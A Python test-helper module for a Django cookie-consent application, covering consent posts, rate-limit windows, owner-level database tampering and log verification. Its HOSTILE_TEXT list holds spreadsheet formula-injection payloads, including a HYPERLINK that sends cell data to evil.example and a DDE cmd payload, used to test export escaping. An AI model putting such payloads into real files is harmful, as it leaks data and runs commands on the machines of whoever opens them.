"""Helpers the test modules share: decisions as a browser posts them, the commands and the
database as an owner would change it, the hostile text of spreadsheets, the frozen hashes."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import time
from pathlib import Path

from cookie_consent.models import CookieGroup
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection, transaction

from consent.ratelimit import client_of, parse_rate, window
from consent.roles import as_owner

BASE_DIR = Path(__file__).resolve().parent.parent


def decide(client, action="accept_all", *, surface="banner", next_url="/", address=None, **on):
    """Post a decision through the banner's form as a browser does; `on` names the switches
    turned on (`**{"first-party": True}`), `address` the client's address."""
    data = {"action": action, "surface": surface, "next": next_url}
    data.update({slug: "on" for slug, chosen in on.items() if chosen})
    extra = {"REMOTE_ADDR": address} if address else {}
    return client.post("/consent/", data, **extra)


LIMIT = 30  # the default, "30/m"


def roomy_address(avoid=(), rate="1/m", seconds=20, pattern="198.51.100.{}"):
    """Return a documentation address whose current window of `rate` has `seconds` or more to run.

    Counts are kept in fixed windows, each address's shifted by a hash of it: a test that posts
    31 times must not straddle the end of one, or the count starts again halfway.
    """
    period = parse_rate(rate).period
    for host in range(1, 255):
        address = pattern.format(host)
        _number, left = window(client_of(address), period, time.time())
        if address not in avoid and left >= seconds:
            return address
    raise AssertionError("every address's window is about to end")


PRODUCTION_ENV = {
    "DJANGO_SETTINGS_MODULE": "iportalis.settings.production",
    "SECRET_KEY": "x7-not-a-real-key-but-long-and-random-enough-9f8e7d6c5b4a3",
    "DATABASE_URL": "postgres://postgres@127.0.0.1:5432/iportalis",
    "ALLOWED_HOSTS": "iportalis.example",
    # A key for tests only, from `manage.py consent_log_key --origin iportalis.example/consent-log`.
    "CONSENT_LOG_SIGNING_KEY": "PRIVATE+KEY+iportalis.example/consent-log+ebce7f1a+"
    "AY/mXg3Y45y/Mi2IhetGQzc9yXCY0al9qxOgBC9BPZmm",
}


def manage(*args: str, **env: str) -> subprocess.CompletedProcess:
    # Browser tests set DJANGO_ALLOW_ASYNC_UNSAFE for this process; a deployment never has it.
    unwanted = {*PRODUCTION_ENV, "DJANGO_ALLOW_ASYNC_UNSAFE"}
    base = {k: v for k, v in os.environ.items() if k not in unwanted}
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=BASE_DIR,
        env={**base, **env},
        capture_output=True,
        text=True,
        timeout=120,
    )


def manage_on(database_url: str, *args: str) -> subprocess.CompletedProcess:
    """Run manage.py on another database (an empty one a test migrates), with the test's
    settings and no owner URL, so that its migrations run as that database's one role."""
    env = {key: value for key, value in os.environ.items() if key != "DATABASE_OWNER_URL"}
    env.update(DATABASE_URL=database_url, DJANGO_SETTINGS_MODULE=settings.SETTINGS_MODULE)
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


LOG_TABLES = "consent_cosignature, consent_logcheckpoint, consent_logtile, consent_logleaf"


TAMPERED = (
    "consent_consentrecord",
    "consent_consentpurge",
    "policy_policyversion",
    *LOG_TABLES.split(", "),
)


def tamper(*statements: str, params: list[object] | None = None) -> None:
    """Change the database as its owner can: with the append-only triggers switched off for
    the statements (the foreign keys still hold)."""
    with transaction.atomic(), as_owner(), connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")  # the test's own inserts are pending
        for table in TAMPERED:
            cursor.execute(f"ALTER TABLE {table} DISABLE TRIGGER USER")
        for sql in statements:
            cursor.execute(sql, params)
        for table in TAMPERED:
            cursor.execute(f"ALTER TABLE {table} ENABLE TRIGGER USER")


def verify(*args: str) -> tuple[str, bool]:
    """Return what verify_consents printed (and its error), and whether it passed."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("verify_consents", *args, stdout=out, stderr=err)
    except CommandError as error:
        return out.getvalue() + err.getvalue() + str(error), False
    return out.getvalue(), True


def verify_fails(*args: str) -> str:
    """Return what verify_consents printed, having checked that it failed."""
    output, passed = verify(*args)
    assert not passed, output
    return output


def cookie_form(name="_new", slug="first-party", **changes):
    """Return the registry form's fields for a cookie `name` in the category `slug`."""
    data = {
        "name": name,
        "cookiegroup": CookieGroup.objects.get(varname=slug).pk,
        "service": "",
        "description": "Counts things.",
        "duration": "1 day",
        "path": "/",
        "domain": "",
    }
    return {**data, **changes}


# What a visitor can make a path or a user agent begin with, or hold after a separator.
HOSTILE_TEXT = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'already quoted",
    "/a;=1+1",
    "/a,=1+1",
    '/a\t@x\r+y\n-z,"=w";\'v',
    "Mozilla/5.0 (X11; Linux x86_64; rv:133) Gecko Firefox/133 ;-)",
    "''",
]


def starts_a_formula(text):
    """Return whether a spreadsheet could take any part of a cell's text for a formula: its
    start, or what follows a separator or a line break it may split the cell on."""
    pieces = re.split(r"[,;\t\r\n]", text)
    return any(piece[:1] in tuple("=+-@\t\r\n") for piece in [text, *pieces])


# What version 1 rendered to when policy/0003 still rendered it through the live registry,
# templates and settings: a fresh install must keep producing exactly this.
VERSION_1_SHA256 = "14644bed4260836f8e107321347cf80041d71d910499995b762ebf1d5be40b1e"


VERSION_2_SHA256 = {
    "en": "ec6178906846dbb5fabef981c9372167cf6e5dd8b5553ba6194246a820158ada",
    "de": "db23853b782540c38e0841435d4f43557a2deb3e2808d6748d2670ac90b78d14",
    "fr": "061de5882b5151da0b1b3ef14bd27fa5921196977862f87496942662968a6326",
}
